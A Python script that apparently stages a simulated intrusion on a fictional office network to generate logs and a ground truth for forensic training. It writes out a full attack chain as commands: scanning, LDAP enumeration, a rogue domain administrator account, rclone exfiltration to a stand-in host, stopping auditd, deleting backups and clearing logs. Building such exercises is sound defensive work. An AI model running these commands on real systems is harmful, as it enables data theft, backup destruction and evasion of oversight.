"""The case: a contractor's administrator account without a second factor, from the first guess to cleared logs."""

import time
from contextlib import ExitStack

import office
from truth import Truth, gone, seen
from world import Shell, World

WHO = "ctr-adm01"
UNKNOWN = "203.0.113.77"
GATEWAY = "192.0.2.1"
HIDEOUT = "/var/tmp/.cache"
GATE = "gw01/var/log/auth.log"
AUDIT = "fs01/var/log/audit/audit.log"
FLOWS = "gw01/var/log/ulog/flows.json"
# What fs01 sent to the collector before its own file was cleared.
COPY = "log01/var/log/remote/fs01.log"


def play(world: World, truth: Truth) -> None:
    office.staff_sign_ins(world, truth, "R")
    office.backups(world, truth, "R", 3)
    office.clerk_day(world, truth, "R")
    office.admin_chores(world, truth, "R")
    usual_contractor(world, truth)
    with ExitStack() as stack:
        intrude(world, truth, stack)
    morning_after(world, truth)
    time.sleep(12)  # connection tracking reports a flow only once it has timed out


def intrude(world: World, truth: Truth, stack: ExitStack) -> None:
    gateway = stack.enter_context(enter(world, truth))
    tunnel_in(world, truth, stack)
    scan_from_gateway(truth, gateway)
    server = stack.enter_context(move_to_file_server(world, truth))
    discover(world, truth, server)
    add_account(truth, server)
    take_first_part(world, truth, server)
    stop_sensor(truth, server)
    take_second_part(truth, server)
    destroy_backups(world, truth, server)
    clear_logs(truth, server)


def usual_contractor(world: World, truth: Truth) -> None:
    with truth.step("R08", "routine", "gw01", WHO, office.SUPPLIER,
                    what="Contractor signs in from the supplier's network, with a password only",
                    what_ja="委託先が通常のネットワークからパスワードのみでサインイン",
                    note="Ordinary work, yet it contradicts the claim that every remote session has a second factor.",
                    traces=[seen(GATE, f"Accepted password for {WHO} from {office.SUPPLIER}")]):
        with world.sign_in(WHO, "supplier", "gw01", key=False) as shell:
            shell.run("uptime")


def enter(world: World, truth: Truth) -> Shell:
    with truth.step("S01", "intrusion", "gw01", WHO, UNKNOWN, "T1110.001",
                    what="Two wrong passwords for the contractor's account from an unknown network",
                    what_ja="未知のネットワークから委託先アカウントへ誤ったパスワードで 2 回試行",
                    traces=[seen(GATE, f"Failed password for {WHO} from {UNKNOWN}"),
                            seen("gw01/var/log/ulog/firewall.log", "remote-access", f"SRC={UNKNOWN}")]):
        for _ in range(2):
            world.refused(WHO, "unknown", "gw01", key=False, wrong_password=True)
    with truth.step("S02", "intrusion", "gw01", WHO, UNKNOWN, "T1133 T1078.003",
                    what="Signs in with the right password; no second factor is asked for",
                    what_ja="正しいパスワードでサインイン（第二要素は要求されない）",
                    traces=[seen(GATE, f"Accepted password for {WHO} from {UNKNOWN}"),
                            seen("gw01/journal.json.gz", f"Accepted password for {WHO} from {UNKNOWN}")]):
        return world.sign_in(WHO, "unknown", "gw01", key=False)


def scan_from_gateway(truth: Truth, shell: Shell) -> None:
    with truth.step("S05", "intrusion", "gw01", WHO, UNKNOWN, "T1046 T1018",
                    what="Scans the server network for open services",
                    what_ja="サーバ用ネットワークの開放ポートを走査",
                    note="gw01 has no execution log: the scan shows only as connections.",
                    traces=[seen(FLOWS, '"src_ip": "192.0.2.1"', '"dest_ip": "192.0.2.30"', '"orig.l4.dport": 22'),
                            seen(COPY, "sshd", "192.0.2.1")]):
        shell.run("nmap -n -Pn -sT --open -p 22,80,389,445,3128,3389 192.0.2.0/26")


def tunnel_in(world: World, truth: Truth, stack: ExitStack) -> None:
    with truth.step("S03", "intrusion", "gw01", WHO, UNKNOWN, "T1133",
                    what="Opens a VPN tunnel with the password alone, beside the ssh session",
                    what_ja="ssh とは別に、パスワードのみで VPN トンネルを確立",
                    traces=[seen("gw01/var/log/syslog", "openvpn", UNKNOWN, f"[{WHO}] Peer Connection Initiated"),
                            seen("gw01/var/log/freeradius/radius.log", f"Login OK: [{WHO}]", UNKNOWN),
                            seen("gw01/var/log/ulog/firewall.log", "remote-access", f"SRC={UNKNOWN}", "DPT=1194"),
                            gone(GATE, f"Accepted google_authenticator for {WHO}")]):
        address = stack.enter_context(world.vpn(WHO, "unknown", code=False))
    with truth.step("S04", "intrusion", "fs01", WHO, address, "T1135 T1078.002",
                    what="Lists the shares of the file server from the intruder's own computer",
                    what_ja="侵入者の端末からファイルサーバの共有を列挙",
                    traces=[seen("fs01/var/log/samba/auth_json.log", WHO, address, "NT_STATUS_OK"),
                            seen("dc01/var/log/samba/auth_json.log", WHO, "NT_STATUS_OK"),
                            seen("gw01/var/log/ulog/firewall.log", "vpn-in", f"SRC={address}", "DPT=445")]):
        world.share_client(WHO, "unknown", ["-L", "//192.0.2.20"])


def move_to_file_server(world: World, truth: Truth) -> Shell:
    with truth.step("S06", "intrusion", "fs01", WHO, GATEWAY, "T1021.004",
                    what="Moves on to the file server over ssh, through the gateway",
                    what_ja="ゲートウェイ経由の ssh でファイルサーバへ横展開",
                    traces=[seen(COPY, f"Accepted password for {WHO} from {GATEWAY}"),
                            seen(AUDIT, "type=USER_LOGIN", f"addr={GATEWAY}", f'AUID="{WHO}"', "res=success"),
                            gone("fs01/var/log/auth.log", f"Accepted password for {WHO}")]):
        return world.sign_in(WHO, "unknown", "fs01", key=False)


def discover(world: World, truth: Truth, shell: Shell) -> None:
    search = "ldapsearch -Q -LLL -Y GSSAPI -H ldap://dc01.corp.example.jp -b dc=corp,dc=example,dc=jp"
    with truth.step("S07", "intrusion", "fs01", WHO, GATEWAY, "T1087.002 T1069.002 T1018",
                    what="Reads the directory: accounts, domain administrators, computers",
                    what_ja="ディレクトリからアカウント・ドメイン管理者・コンピュータを列挙",
                    traces=[seen(AUDIT, "type=EXECVE", 'a0="ldapsearch"'),
                            seen("dc01/var/log/samba/auth_json.log", WHO, "192.0.2.20")]):
        shell.run(f"kinit {WHO}", answers={"Password for [^\r\n]*: ?$": world.secret(WHO)})
        shell.run(f"{search} '(objectClass=user)' sAMAccountName description | head -40")
        shell.run(f"{search} '(cn=Domain Admins)' member")
        shell.run(f"{search} '(objectClass=computer)' dNSHostName")
    with truth.step("S08", "intrusion", "fs01", WHO, GATEWAY, "T1083 T1082",
                    what="Looks through the host and the share",
                    what_ja="ホストと共有フォルダの中身を調査",
                    traces=[seen(AUDIT, "type=EXECVE", 'a0="find"', 'a1="/srv/share"')]):
        for command in ("id", "uname -a", "df -h", "find /srv/share -name '*.csv' -size +100k",
                        "sudo cat /usr/local/sbin/nightly-backup"):
            shell.run(command)
    with truth.step("S09", "intrusion", "px01", WHO, "192.0.2.20", "T1213",
                    what="Reads the intranet pages about servers and remote access",
                    what_ja="社内 Wiki のサーバ・リモートアクセスのページを閲覧",
                    traces=[seen("px01/var/log/nginx/intra.access.log", "192.0.2.20", "/wiki/servers.html"),
                            seen(AUDIT, "type=EXECVE", "/wiki/servers.html")]):
        for page in ("servers", "remote-access"):
            shell.run(f"curl -s http://intra.corp.example.jp/wiki/{page}.html")


def add_account(truth: Truth, shell: Shell) -> None:
    tool = "samba-tool {} -H ldap://dc01.corp.example.jp --use-kerberos=required"
    with truth.step("S10", "intrusion", "dc01", WHO, "192.0.2.20", "T1136.002",
                    what="Creates a domain account that looks like a service",
                    what_ja="サービス用に見えるドメインアカウントを作成",
                    traces=[seen("dc01/var/log/samba/dsdb_json.log", '"operation": "Add"', "svc-mirror"),
                            seen(AUDIT, "type=EXECVE", "samba-tool", 'a3="create"')]):
        shell.run(tool.format("user create svc-mirror --random-password"))
    with truth.step("S11", "intrusion", "dc01", WHO, "192.0.2.20", "T1098.007",
                    what="Makes that account a domain administrator",
                    what_ja="そのアカウントをドメイン管理者グループに追加",
                    traces=[seen("dc01/var/log/samba/dsdb_json.log", "groupChange", "svc-mirror", "Domain Admins")]):
        shell.run(tool.format("group addmembers 'Domain Admins' svc-mirror"))


# A password made and used inside the remote shell: printf is a builtin, so it reaches no argument list.
ARCHIVE = ("P=$(head -c 12 /dev/urandom | base64); printf '%s\\n%s\\n' \"$P\" \"$P\" | "
           "7z a -p -mhe=on -v{volume} " + HIDEOUT + "/{name}.7z /srv/share/{folder}")


def take_first_part(world: World, truth: Truth, shell: Shell) -> None:
    with truth.step("S12", "intrusion", "fs01", WHO, GATEWAY, "T1560.001 T1074.001",
                    what="Packs the personnel folder into encrypted 7z volumes in a hidden folder",
                    what_ja="人事フォルダを隠しフォルダ内の暗号化 7z 分割書庫に圧縮",
                    traces=[seen(AUDIT, "type=EXECVE", 'a1="/usr/bin/7z"', 'a3="-p"', 'a5="-v50k"')]):
        shell.run(f"mkdir -p {HIDEOUT}")
        shell.run(ARCHIVE.format(volume="50k", name="h", folder="hr"))
    write_remote(world, shell)
    with truth.step("S13", "intrusion", "fs01", WHO, "192.0.2.20", "T1567.002",
                    what="Uploads the volumes with rclone through the proxy to a store outside",
                    what_ja="rclone でプロキシ経由で外部ストレージへ書庫を送信",
                    traces=[seen(AUDIT, "type=EXECVE", 'a0="rclone"', "ext:"),
                            seen("fs01/home/ctr-adm01/r.log", "Copied (new)"),
                            seen("px01/var/log/squid/access.log", "192.0.2.20", "CONNECT store.example.net:443")]):
        shell.run(f"export https_proxy={office.PROXY}")
        shell.run(f"rclone copy -v --log-file r.log {HIDEOUT} ext:a --include '*.7z.*'")
    with truth.step("S14", "intrusion", "fs01", WHO, GATEWAY, "T1036.003",
                    what="Copies rclone under another name into the hidden folder and tries it",
                    what_ja="rclone を別名で隠しフォルダに複製し、動作を確認",
                    traces=[seen(AUDIT, "type=SYSCALL", f'exe="{HIDEOUT}/sysupd"')]):
        shell.run(f"cp /usr/bin/rclone {HIDEOUT}/sysupd")
        shell.run(f"{HIDEOUT}/sysupd lsf ext:a")


def write_remote(world: World, shell: Shell) -> None:
    """Types the configuration of the outside store into a file, so that its password is on no command line."""
    obscured = world.obscured("store")
    shell.run("mkdir -p .config/rclone")
    shell.type("cat > .config/rclone/rclone.conf")
    time.sleep(0.5)
    for line in ("[ext]", "type = webdav", "url = https://store.example.net", "vendor = other", "user = store",
                 f"pass = {obscured}"):
        shell.type(line)
    shell.run("\x04")


def stop_sensor(truth: Truth, shell: Shell) -> None:
    with truth.step("S15", "intrusion", "fs01", WHO, GATEWAY, "T1562.012",
                    what="Switches kernel auditing off and stops the audit daemon",
                    what_ja="カーネル監査を無効化し、監査デーモンを停止",
                    traces=[seen(AUDIT, "type=CONFIG_CHANGE", "audit_enabled=0"),
                            seen(AUDIT, "type=DAEMON_END"),
                            seen(COPY, WHO, "COMMAND=/usr/sbin/service auditd stop")]):
        shell.run("sudo auditctl -e 0")
        shell.run("sudo service auditd stop")


def take_second_part(truth: Truth, shell: Shell) -> None:
    with truth.step("S16", "intrusion", "fs01", WHO, GATEWAY, "T1560.001", visible=False,
                    what="Packs the customer folder into encrypted 7z volumes",
                    what_ja="顧客フォルダを暗号化 7z 分割書庫に圧縮",
                    note="The sensor is stopped and no privilege is needed: no collected log can show this.",
                    traces=[gone(AUDIT, "/srv/share/customers", "EXECVE"), gone(COPY, "/srv/share/customers")]):
        shell.run(ARCHIVE.format(volume="300k", name="c", folder="customers"))
    with truth.step("S17", "intrusion", "fs01", WHO, "192.0.2.20", "T1567.002 T1036.003",
                    what="Uploads those volumes with the renamed rclone",
                    what_ja="別名の rclone でその書庫を送信",
                    note="Execution is invisible. The proxy's size column counts bytes sent to the client, so the "
                         "volume of the upload shows only in the gateway's flow records.",
                    traces=[gone(AUDIT, "EXECVE", '"ext:b"'),
                            seen("px01/var/log/squid/access.log", "192.0.2.20", "CONNECT store.example.net:443"),
                            seen(FLOWS, '"dest_ip": "203.0.113.200"')]):
        shell.run(f"{HIDEOUT}/sysupd copy {HIDEOUT} ext:b --include 'c.7z.*'")


def destroy_backups(world: World, truth: Truth, shell: Shell) -> None:
    restic = ("sudo restic -r sftp:backup-svc@bk01:/srv/restic --password-file /etc/restic/password "
              "--cache-dir /var/cache/restic")
    with truth.step("S18", "intrusion", "fs01", WHO, GATEWAY, "T1490",
                    what="Lists the backup snapshots and deletes all but the newest, with prune",
                    what_ja="バックアップ世代を確認し、最新以外を prune 付きで削除",
                    traces=[seen(COPY, WHO, "COMMAND=/usr/bin/restic", "forget", "--prune"),
                            gone("fs01/var/log/auth.log", "forget")]):
        shell.run(f"{restic} snapshots")
        shell.run(f"{restic} forget --tag nightly --keep-last 1 --prune")
    with truth.step("S19", "intrusion", "bk01", WHO, GATEWAY, "T1021.004",
                    what="Moves on to the backup server over ssh, through the gateway",
                    what_ja="ゲートウェイ経由の ssh でバックアップサーバへ横展開",
                    note="The sign-in itself is erased by S21; the end of the session comes after that and stays.",
                    traces=[seen(FLOWS, '"src_ip": "192.0.2.1"', '"dest_ip": "192.0.2.30"', '"orig.l4.dport": 22'),
                            gone("bk01/var/log/auth.log", f"Accepted password for {WHO}")]):
        backup_server = world.sign_in(WHO, "unknown", "bk01", key=False)
    with truth.step("S20", "intrusion", "bk01", WHO, GATEWAY, "T1490 T1485", visible=False,
                    what="Deletes the backup repository",
                    what_ja="バックアップのリポジトリを削除",
                    note="bk01 forwards nothing and its logs are cleared next. The only sign is indirect: the next "
                         "scheduled backup (R09) finds no repository.",
                    traces=[gone("bk01/var/log/auth.log", "/srv/restic"),
                            gone("bk01/journal.json.gz", "COMMAND=/usr/bin/rm")]):
        backup_server.run("sudo du -sh /srv/restic")
        backup_server.run("sudo rm -rf /srv/restic/snapshots /srv/restic/data /srv/restic/config")
    with truth.step("S21", "intrusion", "bk01", WHO, GATEWAY, "T1070.002",
                    what="Empties the journal and the text logs of the backup server",
                    what_ja="バックアップサーバの journal とテキストログを消去",
                    note="The commands after the rotation stay in the new journal; everything before is gone, so the "
                         "journal and auth.log begin long after the host was booted.",
                    traces=[seen("bk01/journal.json.gz", "COMMAND=/usr/bin/journalctl --vacuum-time=1s"),
                            seen("bk01/var/log/auth.log", "pam_unix(sudo:session): session closed for user root"),
                            seen("bk01/var/log/auth.log", f"Close session: user {WHO} from {GATEWAY}"),
                            gone("bk01/journal.json.gz", "Startup finished"),
                            gone("bk01/var/log/auth.log", "Server listening on")]):
        backup_server.run("sudo journalctl --rotate")
        backup_server.run("sudo journalctl --vacuum-time=1s")
        backup_server.run("sudo truncate -s 0 /var/log/auth.log /var/log/syslog")
        backup_server.close()


def clear_logs(truth: Truth, shell: Shell) -> None:
    with truth.step("S22", "intrusion", "fs01", WHO, GATEWAY, "T1070.004 T1070.003",
                    what="Removes the hidden folder and the command history",
                    what_ja="隠しフォルダとコマンド履歴を削除", visible=False,
                    note="No privilege needed and the sensor is stopped.",
                    traces=[gone(AUDIT, "EXECVE", 'a1="-rf"')]):
        shell.run(f"rm -rf {HIDEOUT} .config/rclone")
        shell.run("history -c; unset HISTFILE; rm -f .bash_history")
    with truth.step("S23", "intrusion", "fs01", WHO, GATEWAY, "T1070.002",
                    what="Truncates auth.log on the file server",
                    what_ja="ファイルサーバの auth.log を空にする",
                    note="The file then begins with the closing of a session whose opening is nowhere in it; the "
                         "collector's copy is whole.",
                    traces=[seen(COPY, WHO, "COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log"),
                            gone("fs01/var/log/auth.log", "COMMAND=/usr/bin/truncate")]):
        shell.run("sudo truncate -s 0 /var/log/auth.log")


def morning_after(world: World, truth: Truth) -> None:
    with truth.step("R09", "routine", "fs01", "root", "192.0.2.20",
                    what="The next scheduled backup finds no repository",
                    what_ja="次の定期バックアップがリポジトリを見つけられず失敗",
                    note="The first sign that a person could have noticed.",
                    traces=[seen("fs01/var/log/restic.log", "Is there a repository at the following location?")]):
        world.at("fs01", ["/usr/local/sbin/nightly-backup"])
    with truth.step("R10", "routine", "fs01", "s.aoki", GATEWAY,
                    what="Administrator signs in and looks at the backup log",
                    what_ja="管理者がサインインしてバックアップのログを確認",
                    traces=[seen("fs01/var/log/auth.log", "Accepted publickey for s.aoki")]):
        with world.sign_in("s.aoki", "home", "fs01") as shell:
            shell.run("sudo tail -n 5 /var/log/restic.log")
            shell.run("sudo service auditd status")
